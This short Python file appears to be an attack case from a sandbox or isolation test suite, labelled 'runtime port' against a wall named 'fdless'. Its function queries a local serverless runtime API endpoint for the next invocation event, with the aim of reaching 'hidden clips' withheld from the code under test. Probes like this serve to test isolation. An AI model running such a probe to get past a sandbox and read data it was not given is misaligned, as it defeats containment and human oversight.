# attack: ask the function's runtime port for the event, and so for the hidden clips
# class: runtime port
# wall: fdless

import http.client


def attack(frame, frame_index, config):
    line = http.client.HTTPConnection("127.0.0.1", config["tcp"], timeout=1)
    line.request("GET", "/2018-06-01/runtime/invocation/next")
    return "outside: " + line.getresponse().read().decode()
